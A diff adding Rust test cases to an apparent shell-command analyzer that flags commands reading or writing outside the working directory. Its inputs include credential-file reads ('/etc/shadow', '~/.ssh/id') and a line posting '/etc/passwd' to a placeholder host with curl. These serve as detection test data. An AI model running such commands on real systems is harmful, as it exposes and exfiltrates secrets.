@@ -259,6 +259,8 @@ fn a_redirection_is_a_file_of_its_own() {
     assert_eq!(things(&all, "external_directory"), [vec!["/b/*"]]);
     let all = of("a > $x");
     assert_eq!((things(&all, "edit"), all[1].save.len()), (vec![vec!["$x".to_owned()]], 0));
+    let all = of("F=a; b > $F");
+    assert_eq!(things(&all, "edit"), [["a", "/w/a"]]);
 }
 
 #[test]
@@ -272,6 +274,56 @@ fn a_command_that_leaves_the_directory_says_so() {
         ("echo /etc", None),
         ("sudo cat '/etc/shadow'", Some("/etc/*")),
         ("ls /var/log/*", Some("/var/log/*/*")),
+        // Public reports: other programs read outside too.
+        ("sed -n p /etc/passwd", Some("/etc/*")),
+        ("grep -A 3 x /etc/passwd", Some("/etc/*")),
+        ("grep -e x /etc/passwd", Some("/etc/*")),
+        ("git -C /srv/x log", Some("/srv/*")),
+        ("dd if=/etc/shadow of=x", Some("/etc/*")),
+        ("tar -cf x --directory=/etc .", Some("/*")),
+        ("gcc -I/opt/x/y a.c", Some("/opt/x/*")),
+        ("curl -d @/etc/passwd http://h", Some("/etc/*")),
+        ("cat {/etc/passwd,a}", Some("/etc/*")),
+        ("env -C /etc cat x", Some("/*")),
+        ("xargs -a /etc/passwd echo", Some("/etc/*")),
+        ("cd", Some("~/*")),
+        ("awk '/x/ {print}' a", None),
+        ("grep -rn /api/ src", None),
+        ("sed -e '/a/d' a", None),
+        ("tr / _", None),
+        ("cut -d / -f1 a", None),
+        ("cut -d/ -f1 a", None),
+        ("sort -t / a", None),
+        ("git commit -m \"$(cat <<'E'\nx\nE\n)\"", None),
+    ] {
+        let found = things(&of(command), "external_directory").concat();
+        assert_eq!(found.first().map(String::as_str), expected, "{command}");
+    }
+}
+
+#[test]
+fn a_path_from_a_variable_is_known_or_unknown() {
+    for (command, expected) in [
+        ("cat $HOME/.ssh/id", Some("~/.ssh/*")),
+        ("cat \"${HOME}/x\"", Some("~/*")),
+        ("cat $PWD/a", None),
+        ("F=/etc/passwd; cat $F", Some("/etc/*")),
+        ("F='a /etc/passwd'; cat $F", Some("/etc/*")),
+        ("D=src; cat \"$D/a\"", None),
+        ("for f in src/* a; do wc -l \"$f\"; done", None),
+        ("for f in /etc/*; do cat $f; done", Some("/etc/*")),
+        ("cat $(echo /etc/passwd)", Some("$(echo /etc/passwd)")),
+        ("cat ${F%/*}", Some("${F%/*}")),
+        ("read F; cat $F", Some("$F")),
+        ("F=a; read F; cat $F", Some("$F")),
+        ("F+=/etc; cat $F", Some("$F")),
+        ("IFS=:; F=a:/etc/x; cat $F", Some("$F")),
+        ("F=/etc/x; declare -n r=F; cat $r", Some("$r")),
+        ("ls | xargs cat", Some("cat \u{2026}")),
+        ("echo x > $HOME/y", Some("~/*")),
+        ("echo x > $y", Some("$y")),
+        ("head -n $((1+1)) a; exit $?", None),
+        ("git log --since=\"$(date)\"", None),
     ] {
         let found = things(&of(command), "external_directory").concat();
         assert_eq!(found.first().map(String::as_str), expected, "{command}");
